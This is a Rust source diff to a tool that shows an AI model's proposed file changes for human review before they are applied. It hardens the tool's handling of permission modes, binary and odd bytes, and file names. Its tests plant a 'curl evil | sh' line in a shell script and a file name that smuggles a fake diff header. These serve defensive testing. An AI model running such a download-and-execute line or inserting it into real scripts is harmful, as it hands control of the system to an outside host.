@@ -11,11 +11,19 @@
 //! The base keeps only hashes; base bytes are fetched for changed paths only, through a
 //! [`BaseSource`] that checks them against the hash ([`source`]).
 //!
-//! Permission bits: a [`FileWrite`] carries no mode, so a change is about content. The change
-//! set records the mode the file has in the workspace, which apply gives to a file it
-//! *creates* (a new script made executable by bash is created executable), but a mode-only
-//! change to an existing file is not a proposal: it never appears here, and apply keeps the
-//! user's mode on every file it rewrites.
+//! Permission bits are shown and applied as git records them: a file is `100644` or `100755`
+//! ([`shown_mode`]), nothing else. The change set records the mode the file has in the
+//! workspace; what review shows, and what apply writes, is only its executable bit: a new
+//! file is created `0644` or `0755` (never setuid, setgid, sticky or writable by others,
+//! whatever the model's `chmod` said), and a change of the executable bit of an existing file
+//! (with or without a content change) is a change of its own (`old mode` / `new mode`), which
+//! apply makes by setting or clearing the execute bits of the user's mode.
+//!
+//! Text and binary: a file whose base is text is diffed line by line whatever the model
+//! wrote into it, its odd bytes (NUL, ESC, bytes that are not UTF-8) kept in the lines for
+//! the printers to show escaped, so the review never hides bytes apply writes. Only a base
+//! that is binary (or a new file that is) has no line diff ([`hunks::is_binary`]); such a
+//! change is shown with the size and blake3 hash of both sides ([`FileChange::binary_sides`]).
 //!
 //! Change sets are plain data (no I/O after build), serializable for reports; the bytes
 //! themselves are left out of the serialized form, which carries the hunks instead.
@@ -34,7 +42,7 @@ use serde::Serialize;
 use serde::ser::SerializeStruct;
 
 pub use hunks::{
-    CONTEXT_LINES, Hunk, HunkLine, LineKind, LineRange, Origin, diff_texts, hunks_of_ops,
+    CONTEXT_LINES, Hunk, HunkLine, LineKind, LineRange, Origin, diff_texts, hunks_of_ops, is_binary,
 };
 pub use source::{BaseReader, BaseSource};
 
@@ -87,7 +95,9 @@ pub struct FileChange {
     /// Permission bits of the file in the workspace, given to the file when apply creates it
     /// (`None`: deleted, or not on disk as in overlay mode).
     pub mode: Option<u32>,
-    /// Base or proposal holds a NUL byte: no hunks, shown as "Binary files differ".
+    /// The file is binary ([`hunks::is_binary`] of its base, or of the proposal for a new
+    /// file): no hunks, shown as "Binary files differ" with both sides' sizes and hashes
+    /// ([`FileChange::binary_sides`]). A text file stays text whatever bytes the model added.
     pub binary: bool,
     /// The proposal is a symlink: `proposed` is its target, not file bytes. Shown and applied
     /// as a link (never as the bytes behind it), and only taken whole.
@@ -125,8 +135,68 @@ impl FileChange {
             (ChangeKind::Created, _) => Some("the model created it"),
             (ChangeKind::Deleted, _) => Some("the model deleted it"),
             (_, true) => Some("it is a binary file"),
+            _ if self.hunks.is_empty() => Some("only its mode changed"),
             _ => None,
         }
+    }
+
+    /// The mode review shows for the proposal (`0o644` or `0o755`, see [`shown_mode`]);
+    /// `None` for a deletion, a symlink, or when the workspace's mode is not known.
+    pub fn shown_mode(&self) -> Option<u32> {
+        if self.symlink {
+            return None;
+        }
+        self.mode.map(shown_mode)
+    }
+
+    /// The mode review shows for the base (`None`: no file, or a symlink).
+    pub fn shown_base_mode(&self) -> Option<u32> {
+        if self.base_symlink {
+            return None;
+        }
+        self.base_mode.map(shown_mode)
+    }
+
+    /// The proposal changes the executable bit of a file that stays a file: review shows
+    /// `old mode` / `new mode`, and apply sets or clears the execute bits.
+    pub fn mode_changed(&self) -> bool {
+        self.kind == ChangeKind::Modified
+            && !self.symlink
+            && !self.base_symlink
+            && matches!((self.shown_base_mode(), self.shown_mode()), (Some(a), Some(b)) if a != b)
+    }
+
+    /// For a binary change, the size and hash of what was there and of what the model leaves
+    /// (`None` on a side where there is no file); `None` for a text change.
+    pub fn binary_sides(&self) -> Option<(Option<BlobInfo>, Option<BlobInfo>)> {
+        if !self.binary || self.symlink || self.base_symlink {
+            return None;
+        }
+        let side = |b: &Option<Arc<Vec<u8>>>| b.as_deref().map(|b| BlobInfo::of(b));
+        Some((side(&self.base), side(&self.proposed)))
+    }
+
+    /// A text change whose added lines hold bytes a terminal must not receive raw (controls,
+    /// NUL, bidi or invisible characters, bytes that are not UTF-8): review says so above
+    /// the diff, where they are shown escaped.
+    pub fn odd_bytes(&self) -> bool {
+        if self.binary || self.symlink {
+            return false;
+        }
+        let added_odd = self
+            .hunks
+            .iter()
+            .flat_map(|h| &h.lines)
+            .filter(|l| l.kind == LineKind::Added)
+            .any(|l| {
+                let text = l.text.strip_suffix('\r').unwrap_or(&l.text);
+                crate::sanitize::needs_escape(text, crate::sanitize::Layout::Line)
+            });
+        let invalid = |b: &Option<Arc<Vec<u8>>>| {
+            b.as_deref()
+                .is_some_and(|b| std::str::from_utf8(b).is_err())
+        };
+        added_odd || (invalid(&self.proposed) && !invalid(&self.base))
     }
 
     /// How review shows a symlink proposal: `symlink -> TARGET` (or `symlink removed` when
@@ -134,12 +204,12 @@ impl FileChange {
     pub fn symlink_label(&self) -> Option<String> {
         if self.symlink {
             let target = self.proposed.as_deref().map_or(&[][..], Vec::as_slice);
-            Some(format!("symlink -> {}", String::from_utf8_lossy(target)))
+            Some(format!("symlink -> {}", crate::sanitize::lossless(target)))
         } else if self.base_symlink {
             let target = self.base.as_deref().map_or(&[][..], Vec::as_slice);
             Some(format!(
                 "was a symlink -> {}",
-                String::from_utf8_lossy(target)
+                crate::sanitize::lossless(target)
             ))
         } else {
             None
@@ -149,6 +219,41 @@ impl FileChange {
     /// The file's diff in git's unified format.
     pub fn unified_diff(&self) -> String {
         udiff::file_diff(self)
+    }
+}
+
+/// The permission review shows and apply writes for a file of mode `mode`: `0o755` when any
+/// execute bit is set, `0o644` otherwise, as git records modes (`100755` / `100644`). Setuid,
+/// setgid, sticky and group or other write never come from a model's proposal.
+pub fn shown_mode(mode: u32) -> u32 {
+    if mode & 0o111 != 0 { 0o755 } else { 0o644 }
+}
+
+/// One side of a binary change: enough to tell it from any other version without showing it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct BlobInfo {
+    /// Size in bytes.
+    pub size: u64,
+    /// blake3 of the bytes, lowercase hex.
+    pub blake3: String,
+}
+
+impl BlobInfo {
+    /// Size and hash of `bytes`.
+    pub fn of(bytes: &[u8]) -> Self {
+        Self {
+            size: u64::try_from(bytes.len()).unwrap_or(u64::MAX),
+            blake3: hash_bytes(bytes),
+        }
+    }
+}
+
+impl std::fmt::Display for BlobInfo {
+    /// `1234 bytes, blake3 0123456789abcdef` (the hash's first 16 digits).
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let short = self.blake3.get(..16).unwrap_or(&self.blake3);
+        let unit = if self.size == 1 { "byte" } else { "bytes" };
+        write!(f, "{} {unit}, blake3 {short}", self.size)
     }
 }
 
@@ -275,10 +380,19 @@ fn file_change(
     let symlink = proposed.is_some() && last.symlink;
     let entry = base.get(path);
     let base_symlink = entry.is_some_and(|e| e.kind == BaseKind::Symlink);
+    let mode = match (&proposed, mode_root) {
+        (Some(_), Some(root)) if !symlink => mode_of(&root.join(path)),
+        _ => None,
+    };
+    // The executable bit as review shows it is part of the proposal.
+    let same_mode = match (entry, mode) {
+        (Some(e), Some(m)) if !symlink && !base_symlink => shown_mode(e.mode) == shown_mode(m),
+        _ => true,
+    };
     // Cheap checks first: most unchanged paths are decided by hash alone.
     match (entry, &proposed) {
         (None, None) => return Ok(None),
-        (Some(e), Some(p)) if base_symlink == symlink && hash_bytes(p) == e.hash => {
+        (Some(e), Some(p)) if base_symlink == symlink && same_mode && hash_bytes(p) == e.hash => {
             return Ok(None);
         }
         _ => {}
@@ -291,7 +405,7 @@ fn file_change(
         })?)),
         None => None,
     };
-    if base_bytes == proposed && base_symlink == symlink {
+    if base_bytes == proposed && base_symlink == symlink && same_mode {
         return Ok(None);
     }
     let kind = match (&base_bytes, &proposed) {
@@ -314,7 +428,12 @@ fn file_change(
         }
     }
     let old: &[u8] = base_bytes.as_deref().map_or(&[], Vec::as_slice);
-    let binary = hunks::is_binary(old) || proposed.as_deref().is_some_and(|p| hunks::is_binary(p));
+    // A text base keeps a line diff whatever the model wrote; only a binary base (or a new
+    // binary file) has none.
+    let binary = match kind {
+        ChangeKind::Created => proposed.as_deref().is_some_and(|p| hunks::is_binary(p)),
+        ChangeKind::Modified | ChangeKind::Deleted => hunks::is_binary(old),
+    };
     let hunks = if binary {
         Vec::new()
     } else {
@@ -327,10 +446,6 @@ fn file_change(
             })
             .collect();
         hunks::compute(model, path, old, &versions)
-    };
-    let mode = match (&proposed, mode_root) {
-        (Some(_), Some(root)) if !symlink => mode_of(&root.join(path)),
-        _ => None,
     };
     Ok(Some(FileChange {
         path: path.to_string(),
@@ -429,13 +544,17 @@ mod tests {
             &[
                 w(0, "m.txt", Some("one\n2"), "edit_file"),
                 w(1, "gone.txt", None, "bash"),
-                w(2, "bin.dat", Some("\0\x01"), "bash"),
+                FileWrite {
+                    content: Some(Arc::new(b"\0\xff".to_vec())),
+                    ..w(2, "bin.dat", None, "bash")
+                },
             ],
         );
         assert_eq!(
             cs.unified_diff(),
             "diff --git a/bin.dat b/bin.dat\nnew file mode 100644\n\
              Binary files /dev/null and b/bin.dat differ\n\
+             binary: no file -> 2 bytes, blake3 1878e767f1a09c64\n\
              diff --git a/gone.txt b/gone.txt\ndeleted file mode 100644\n\
              --- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n\
              diff --git a/m.txt b/m.txt\n--- a/m.txt\n+++ b/m.txt\n\
@@ -443,6 +562,101 @@ mod tests {
         );
         let bin = cs.file("bin.dat").unwrap();
         assert!(bin.binary && bin.hunks.is_empty());
+    }
+
+    #[test]
+    fn one_odd_byte_keeps_a_text_file_text_and_every_line_counted() {
+        let (_d, base) = base_of(&[("run.sh", "#!/bin/sh\necho hi\n")]);
+        let payload = "#!/bin/sh\necho hi\ncurl evil | sh\n# \0\n";
+        let cs = build(&base, &[w(0, "run.sh", Some(payload), "bash")]);
+        let f = cs.file("run.sh").unwrap();
+        assert!(!f.binary && f.binary_sides().is_none());
+        assert_eq!((f.added, f.removed), (2, 0));
+        assert!(f.odd_bytes());
+        let diff = f.unified_diff();
+        assert!(diff.contains("+curl evil | sh\n+# \0\n"), "{diff}");
+        // Bytes that are not UTF-8 keep their value in the lines.
+        let latin = FileWrite {
+            content: Some(Arc::new(b"#!/bin/sh\necho hi\nx=\xe9\x00\n".to_vec())),
+            ..w(0, "run.sh", None, "bash")
+        };
+        let cs = build(&base, &[latin]);
+        let f = cs.file("run.sh").unwrap();
+        assert!(!f.binary, "a text base stays text");
+        assert_eq!(f.hunks[0].lines.last().unwrap().text, "x=\\xe9\0");
+        // A binary base is flagged with both sides' sizes and hashes.
+        let (_e, base) = base_of(&[]);
+        let d = tempfile::tempdir().unwrap();
+        fs::write(d.path().join("img.bin"), b"\x89PNG\0\xff").unwrap();
+        let base2 = Base::capture(d.path()).unwrap();
+        let bin = FileWrite {
+            content: Some(Arc::new(b"\x89PNG\0\xfe!".to_vec())),
+            ..w(0, "img.bin", None, "bash")
+        };
+        let cs = build(&base2, &[bin]);
+        let f = cs.file("img.bin").unwrap();
+        let (before, after) = f.binary_sides().unwrap();
+        assert_eq!(before.unwrap().size, 6);
+        assert_eq!(after.as_ref().unwrap().size, 7);
+        assert!(f.unified_diff().contains("binary: 6 bytes, blake3 "));
+        drop(base);
+    }
+
+    #[test]
+    fn names_that_need_it_are_quoted_in_diff_headers() {
+        let (_d, base) = base_of(&[]);
+        let cs = build(&base, &[w(0, "x\n+++ b/evil", Some("hi\n"), "write_file")]);
+        assert_eq!(
+            cs.unified_diff(),
+            "diff --git \"a/x\\n+++ b/evil\" \"b/x\\n+++ b/evil\"\nnew file mode 100644\n\
+             --- /dev/null\n+++ \"b/x\\n+++ b/evil\"\n@@ -0,0 +1 @@\n+hi\n"
+        );
+    }
+
+    #[test]
+    fn the_executable_bit_is_a_change_and_nothing_else_of_the_mode_is() {
+        use std::os::unix::fs::PermissionsExt;
+        let (d, base) = base_of(&[("run.sh", "echo\n"), ("data.txt", "d\n"), ("x.sh", "x\n")]);
+        let ws = tempfile::tempdir().unwrap();
+        let put = |p: &str, c: &str, m: u32| {
+            fs::write(ws.path().join(p), c).unwrap();
+            fs::set_permissions(ws.path().join(p), fs::Permissions::from_mode(m)).unwrap();
+        };
+        put("run.sh", "echo\n", 0o4755);
+        put("data.txt", "d\n", 0o666);
+        put("x.sh", "y\n", 0o644);
+        put("new", "n\n", 0o6777);
+        let writes = [
+            w(0, "run.sh", Some("echo\n"), "bash"),
+            w(1, "data.txt", Some("d\n"), "bash"),
+            w(2, "x.sh", Some("y\n"), "bash"),
+            w(3, "new", Some("n\n"), "bash"),
+        ];
+        let cs = ChangeSet::build(
+            "m",
+            &base,
+            &writes,
+            &BaseReader::new(&base),
+            Some(ws.path()),
+        )
+        .unwrap();
+        let paths: Vec<&str> = cs.files.iter().map(|f| f.path.as_str()).collect();
+        assert_eq!(
+            paths,
+            ["new", "run.sh", "x.sh"],
+            "0666 shows as 100644: no change"
+        );
+        let run = cs.file("run.sh").unwrap();
+        assert!(run.mode_changed() && run.hunks.is_empty());
+        assert_eq!(run.shown_mode(), Some(0o755));
+        assert_eq!(run.whole_file_only(), Some("only its mode changed"));
+        assert_eq!(
+            run.unified_diff(),
+            "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"
+        );
+        assert_eq!(cs.file("new").unwrap().shown_mode(), Some(0o755));
+        assert!(!cs.file("x.sh").unwrap().mode_changed());
+        drop(d);
     }
 
     #[test]
